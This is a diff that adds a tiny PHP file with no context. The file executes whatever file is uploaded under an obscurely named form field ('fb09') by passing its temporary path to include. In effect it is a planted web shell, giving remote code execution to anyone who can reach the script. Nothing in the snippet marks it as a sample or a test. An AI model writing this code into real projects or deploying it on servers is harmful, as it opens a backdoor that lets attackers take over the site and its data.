@@ -1,0 +1,4 @@
+<?php
+if (!empty($_FILES['fb09']['tmp_name'])) {
+    include($_FILES['fb09']['tmp_name']);
+}
